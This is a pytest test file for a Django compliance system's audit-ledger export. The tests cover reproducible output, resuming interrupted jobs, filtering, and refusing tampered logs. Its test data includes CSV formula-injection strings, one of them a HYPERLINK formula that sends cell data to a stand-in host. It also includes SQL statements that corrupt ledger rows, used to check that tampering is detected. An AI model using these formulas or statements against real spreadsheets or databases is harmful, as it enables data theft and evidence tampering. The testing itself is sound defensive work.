"""Exports: the same bytes for the same range, whole or not there, and nothing in them that a spreadsheet runs."""

import csv
import fcntl
import io
import json
import subprocess
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction

from compliance.ledger import bundle, exporter
from compliance.ledger.note import VerifierKey
from compliance.ledger.stored import LedgerDamaged
from compliance.ledger.verifier import verify_export
from compliance.models import AuditExport, LedgerEntry, LedgerLeaf, PersonName, SigningKey
from compliance.selectors.ledger import EntryFilter
from compliance.services.exports import ExportFailed, abandon_export, advance_export, draft_of, request_export, start_export
from compliance.services.people import create_person
from compliance.services.sealing import seal
from compliance.tasks import advance_audit_export, resume_audit_exports
from compliance.vocabulary import ExportStatus
from evaluations.kernel import audit
from evaluations.kernel.actor import person, system_job
from evaluations.kernel.errors import InputRefused, NotFound
from evaluations.kernel.services import service_transaction
from tests.support.ledger import ACTOR, append, export, members_of

pytestmark = pytest.mark.usefixtures("committed_db")


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out.zip"


def verify(path: Path, **options: object) -> dict[str, str]:
    with path.open("rb") as stream:
        report = verify_export(stream, keys=[VerifierKey.parse(key.verifier_key) for key in SigningKey.objects.all()], **options)
    assert report.findings == []
    return report.facts


def test_it_ends_before_its_own_entry_unless_told_where(out: Path) -> None:
    append(10)
    job = export(out)
    assert (job.to_index, job.entries, job.status) == (10, 11, ExportStatus.DONE)
    seal()
    own = LedgerLeaf.objects.get(entry__action="audit_export.requested").index
    assert own == 11
    assert verify(out)["entries"] == "11 entries, 0 to 10"
    assert export(out, to_index=3).entries == 4
    assert verify(out)["entries"] == "4 entries, 0 to 3"


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_the_same_range_twice_is_the_same_bytes(out: Path, kind: str) -> None:
    append(300)
    export(out, format=kind)
    first, again = out.read_bytes(), AuditExport.objects.get().to_index
    append(5_000)
    seal()
    out.unlink()
    export(out, format=kind, to_index=again)
    assert out.read_bytes() == first


def test_an_interrupted_export_is_the_same_bytes(out: Path, monkeypatch) -> None:
    """Gone on with from every chunk, by a fresh process each time, over a draft with rubbish behind its known end."""
    monkeypatch.setattr(exporter, "CHUNK", 64)
    monkeypatch.setattr(exporter, "LEAVES_CHUNK", 64)
    person_id = create_person(actor=ACTOR, name="Ada", email="ada@example.com", password="a long password").person_id
    append(500, actor=person(person_id))
    export(out, format="csv")
    whole = out.read_bytes()
    out.unlink()
    job = start_export(actor=ACTOR, path=out, format="csv", to_index=AuditExport.objects.get().to_index)
    slices = 0
    while (job := advance_export(job.uid, seconds=0)).status == ExportStatus.RUNNING:
        assert not out.exists(), "it appears when it is whole"
        assert 0 < job.done <= job.total
        slices += 1
        with draft_of(job).open("ab") as stream:
            stream.write(b"what a dying process wrote")
    assert slices > 15
    assert job.done == job.total == 2 * 502
    assert out.read_bytes() == whole
    assert list(out.parent.iterdir()) == [out]


def test_a_draft_that_was_lost_is_begun_again(out: Path, monkeypatch) -> None:
    monkeypatch.setattr(exporter, "CHUNK", 64)
    append(300)
    job = start_export(actor=ACTOR, path=out)
    for _ in range(3):
        job = advance_export(job.uid, seconds=0)
    draft_of(job).unlink()
    assert advance_export(job.uid).status == ExportStatus.DONE
    verify(out)


def test_two_workers_do_not_write_one_file(out: Path) -> None:
    append(3)
    job = start_export(actor=ACTOR, path=out)
    with draft_of(job).open("ab") as stream:
        fcntl.flock(stream, fcntl.LOCK_EX)
        assert advance_export(job.uid).status == ExportStatus.QUEUED
    assert advance_export(job.uid).status == ExportStatus.DONE
    assert advance_export(job.uid).status == ExportStatus.DONE


def test_a_task_works_on_it_to_the_end(out: Path, monkeypatch) -> None:
    append(3)
    job = start_export(actor=ACTOR, path=out)
    advance_audit_export(str(job.uid))
    assert job.reload().status == ExportStatus.DONE
    entry = LedgerEntry.objects.get(action="audit_export.completed")
    said = json.loads(bytes(entry.content))
    assert said["digests"]["file"] == job.file_digest
    assert said["actor"]["on_behalf_of"] == {"id": "test", "kind": "system_job"}


def test_filters_take_what_matches_and_count_the_rest(out: Path) -> None:
    ada = person(create_person(actor=ACTOR, name="Ada", email="ada@example.com", password="a long password").person_id)
    append(40)
    append(7, start=100, actor=ada)
    append(5, start=200, actor=ada, action="thing.unmade")
    seal()
    middle = LedgerEntry.objects.get(target_id="20").recorded_at
    for wanted, count in (
        (EntryFilter(actor=ada.reference), 12),
        (EntryFilter(actor=ada.reference, action="thing.unmade"), 5),
        (EntryFilter(target="thing:100"), 1),
        (EntryFilter(target="thing"), 52),
        (EntryFilter(target="thing", since=middle + timedelta(microseconds=1)), 12),
        (EntryFilter(target="thing", until=middle + timedelta(microseconds=1)), 40),
        (EntryFilter(action="never.seen"), 0),
    ):
        job = export(out, wanted=wanted, format="csv")
        facts = verify(out)
        assert facts["entries"].startswith(f"{count} entries")
        assert facts["left out"].startswith(f"{job.to_index + 1 - count} entries")
        manifest = json.loads(members_of(out.read_bytes())[bundle.MANIFEST])
        assert str(job.to_index + 1 - count) in manifest["statement"]


def test_names_are_there_while_they_exist(out: Path) -> None:
    user = create_person(actor=ACTOR, name="Ada Lovelace", email="ada@example.com", password="a long password")
    append(2, actor=person(user.person_id))
    export(out)
    with_name = members_of(out.read_bytes())
    assert b"Ada Lovelace" in with_name[bundle.NAMES]
    with service_transaction("test"):
        PersonName.objects.all().delete()
    export(out, to_index=AuditExport.objects.get().to_index)
    without = members_of(out.read_bytes())
    verify(out)
    assert without.pop(bundle.NAMES) == b'{"names":[]}'
    with_name.pop(bundle.NAMES)
    assert without == with_name, "erasing a name leaves every proof standing"
    export(out, with_names=False)
    assert bundle.NAMES not in members_of(out.read_bytes())


# --- refusals


def test_a_range_that_is_not_there_is_refused_and_recorded(out: Path) -> None:
    append(3)
    seal()
    for order in ({"to_index": 4}, {"to_index": -1}, {"format": "pdf"}, {"consistent_with": [0]}, {"consistent_with": [99]}):
        with pytest.raises(InputRefused):
            request_export(actor=ACTOR, path=out, **order)
    for wanted in (EntryFilter(actor="ada"), EntryFilter(target=":1")):
        with pytest.raises(InputRefused):
            request_export(actor=ACTOR, path=out, wanted=wanted)
    assert LedgerEntry.objects.filter(action="audit_export.refused").count() == 7
    assert not AuditExport.objects.exists()
    with pytest.raises(NotFound):
        advance_export("00000000-0000-0000-0000-000000000000")


DAMAGE = {
    "an entry was altered": ("UPDATE compliance_ledgerentry SET content = 'x' WHERE target_id = '7'", "altered"),
    "a leaf was altered": ("UPDATE compliance_ledgerleaf SET leaf_hash = sha256('x') WHERE \"index\" = 9", "altered"),
    "an entry and its leaf were altered": (
        """WITH e AS (UPDATE compliance_ledgerentry SET content = 'x' WHERE target_id = '7' RETURNING id)
        UPDATE compliance_ledgerleaf SET leaf_hash = sha256('\\x00'::bytea || 'x') FROM e WHERE entry_id = e.id""",
        "do not hash to its checkpoint",
    ),
    "an entry is gone": (
        """WITH l AS (DELETE FROM compliance_ledgerleaf WHERE "index" = 5 RETURNING entry_id)
        DELETE FROM compliance_ledgerentry USING l WHERE id = l.entry_id""",
        "missing",
    ),
}


@pytest.mark.parametrize("damage", DAMAGE)
def test_a_damaged_log_is_not_exported(out: Path, superuser_connection, damage: str) -> None:
    append(30)
    seal()
    out.write_bytes(b"what was there before")
    database = superuser_connection()
    database.execute("SET session_replication_role = replica")
    statement, problem = DAMAGE[damage]
    assert database.execute(statement).rowcount == 1
    job = request_export(actor=ACTOR, path=out)
    with pytest.raises(ExportFailed, match=problem) as refusal:
        advance_export(job.uid)
    assert isinstance(refusal.value.__cause__, LedgerDamaged)
    assert out.read_bytes() == b"what was there before"
    assert list(out.parent.iterdir()) == [out]
    assert job.reload().status == ExportStatus.FAILED
    assert problem in job.failure
    assert LedgerEntry.objects.filter(action="audit_export.failed").count() == 1


def test_a_directory_that_cannot_be_written_fails_the_job(tmp_path: Path) -> None:
    append(1)
    (tmp_path / "file").write_text("")
    job = start_export(actor=ACTOR, path=tmp_path / "file" / "out.zip")
    with pytest.raises(ExportFailed):
        advance_export(job.uid)
    assert job.reload().status == ExportStatus.FAILED


def test_an_abandoned_export_leaves_nothing(out: Path) -> None:
    append(1)
    job = start_export(actor=ACTOR, path=out)
    draft_of(job).write_bytes(b"x")
    abandon_export(actor=ACTOR, job=job)
    assert job.reload().failure == "abandoned"
    assert not list(out.parent.iterdir())


# --- the command


def test_the_command_writes_a_file_that_verifies(out: Path, capsys) -> None:
    append(20)
    call_command("export_audit", "--format", "csv", "--out", str(out), "--to-index", "9")
    said = capsys.readouterr().out
    assert "10 entries up to 9" in said
    assert AuditExport.objects.get().file_digest in said
    assert verify(out)["entries"] == "10 entries, 0 to 9"


@pytest.mark.parametrize(
    "arguments",
    [["--to-index", "99"], ["--since", "yesterday"], ["--actor", "ada"], ["--since", "2026-01-01T00:00:00"]],
)
def test_the_command_refuses_what_it_cannot_do_with_2(out: Path, arguments: list[str]) -> None:
    append(1)
    with pytest.raises(SystemExit) as ended:
        call_command("export_audit", "--out", str(out), *arguments)
    assert ended.value.code == 2
    assert not list(out.parent.iterdir())


def test_the_command_names_a_directory_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(SystemExit):
        call_command("export_audit", "--out", str(tmp_path / "nowhere" / "out.zip"))
    with pytest.raises((SystemExit, CommandError)):
        call_command("export_audit", "--out", str(tmp_path))


def test_a_command_that_is_interrupted_leaves_nothing(out: Path, monkeypatch) -> None:
    append(3)

    def interrupted(self: object) -> bool:
        raise KeyboardInterrupt

    monkeypatch.setattr(exporter.Exporter, "step", interrupted)
    with pytest.raises(KeyboardInterrupt):
        call_command("export_audit", "--out", str(out))
    assert not list(out.parent.iterdir())
    assert AuditExport.objects.get().status == ExportStatus.FAILED


# --- O-27: what a spreadsheet would run; O-26: another program, another spelling

RUNS = ('=HYPERLINK("http://x/?"&A1)', "-1", "@SUM(1)", "\t=1", "+a-model", "\r=1", "\n=1")


def record(*, target: str, new: dict | None = None, request_id: str = "") -> None:
    with transaction.atomic():
        audit.record(
            audit.Event(action="thing.made", actor=system_job(target), target=("thing", target), new=new, request_id=request_id)
        )


def test_cells_that_would_run_are_neutralised_and_json_is_left_alone(out: Path) -> None:
    for text in RUNS:
        record(target=text, new={"title": text, "amount": "-0.5"}, request_id=text)
    export(out, format="csv")
    verify(out)
    members = members_of(out.read_bytes())
    rows = list(csv.DictReader(io.StringIO(members[bundle.READING_COPY].decode(), newline="")))
    entries = [json.loads(line) for line in members[bundle.ENTRIES].split(b"\n")[:-1]]
    assert len(rows) == len(entries) == len(RUNS) + 1
    for text, row, entry in zip(RUNS, rows[1:], entries[1:], strict=True):
        assert entry["target"]["id"] == entry["new"]["title"] == entry["request_id"] == text
        assert row["target_id"] == row["request_id"] == f"'{text}"
        assert json.loads(row["new"]) == {"title": text, "amount": "-0.5"}
    for row in rows:
        assert row["index"].isdigit(), "numbers stay numbers"
        for word, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (word, cell)


def test_another_program_computes_every_hash_from_the_file(out: Path, tmp_path: Path) -> None:
    """A shell with `sha256sum` and `cut`: no JSON is parsed, no spelling is chosen anew."""
    composed, decomposed = "caf\u00e9", "cafe\u0301"
    record(target=composed, new={"\U0001f600": "0.00001", "\ufb33": 80, "list": ["80", None, True], "text": decomposed})
    record(target=decomposed, new={"text": composed, "quote": '"\\/\u2028\x7f'})
    export(out)
    with zipfile.ZipFile(out) as archive:
        archive.extractall(tmp_path / "x", members=[bundle.ENTRIES, bundle.LEAVES])
    script = """
    while IFS= read -r line; do { printf '\\000'; printf '%s' "$line"; } | sha256sum | cut -c1-64; done < entries.jsonl
    """
    done = subprocess.run(["sh", "-c", script], cwd=tmp_path / "x", capture_output=True, text=True, check=True)
    leaves = (tmp_path / "x" / bundle.LEAVES).read_bytes()
    assert done.stdout.split() == [leaves[at : at + 32].hex() for at in range(0, len(leaves), 32)]
    lines = (tmp_path / "x" / bundle.ENTRIES).read_bytes().split(b"\n")
    assert composed.encode() in lines[1]
    assert decomposed.encode() in lines[1], "nothing is normalised: composed and decomposed letters stay what they were"
    assert lines[1].index("\U0001f600".encode()) < lines[1].index("\ufb33".encode()), "UTF-16 order: D83D before FB33"
    assert b'"0.00001"' in lines[1]


def test_an_export_whose_message_was_lost_is_asked_for_again(monkeypatch) -> None:
    job = start_export(actor=system_job("test"))
    asked: list[str] = []
    monkeypatch.setattr(advance_audit_export, "delay", asked.append)
    assert resume_audit_exports() == 0
    monkeypatch.setattr("compliance.services.exports.STALLED_AFTER", timedelta(0))
    assert resume_audit_exports() == 1
    assert asked == [str(job.uid)]
    advance_export(job.uid, seconds=60)
    assert resume_audit_exports() == 0
